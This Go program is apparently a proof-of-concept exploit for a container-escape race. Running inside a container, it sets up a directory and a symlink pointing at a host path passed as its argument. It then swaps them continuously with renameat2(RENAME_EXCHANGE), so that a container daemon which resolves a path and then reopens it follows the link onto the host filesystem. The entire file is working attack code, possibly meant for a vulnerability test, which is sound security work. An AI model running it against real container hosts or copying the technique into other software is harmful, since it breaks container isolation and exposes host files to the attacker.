// Command swapper runs inside a container and races the daemon's path resolution: it
// makes /race/dir (a real directory holding "secret") and /race/link (a symlink to a host
// path given as its argument), then exchanges the two with renameat2(RENAME_EXCHANGE) as
// fast as it can, so that at any instant /race/dir is either the directory or the link.
// A daemon that resolves /race/dir and then opens the resulting string again follows the
// link on the host.
package main

import (
	"fmt"
	"os"
	"runtime"
	"syscall"
	"unsafe"
)

// renameat2 is missing from package syscall; its number differs per architecture.
var sysRenameat2 = map[string]uintptr{"amd64": 316, "arm64": 276, "riscv64": 276, "386": 353}[runtime.GOARCH]

const renameExchange = 1 << 1

// atFDCWD is a variable: a negative constant cannot be converted to uintptr.
var atFDCWD = -100

func exchange(a, b *byte) syscall.Errno {
	_, _, e := syscall.RawSyscall6(sysRenameat2, uintptr(atFDCWD), uintptr(unsafe.Pointer(a)),
		uintptr(atFDCWD), uintptr(unsafe.Pointer(b)), renameExchange, 0)
	return e
}

func main() {
	if len(os.Args) != 2 || sysRenameat2 == 0 {
		fmt.Fprintln(os.Stderr, "usage: swapper <host path for the link>")
		os.Exit(2)
	}
	must(os.RemoveAll("/race")) // a restarted container starts over
	must(os.MkdirAll("/race/dir", 0o755))
	must(os.WriteFile("/race/dir/secret", []byte("container-content\n"), 0o644))
	must(os.Symlink(os.Args[1], "/race/link"))
	a, _ := syscall.BytePtrFromString("/race/dir")
	b, _ := syscall.BytePtrFromString("/race/link")
	must(os.WriteFile("/race/ready", nil, 0o644))
	for {
		if e := exchange(a, b); e != 0 {
			fmt.Fprintln(os.Stderr, "renameat2:", e)
			os.Exit(1)
		}
	}
}

func must(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}
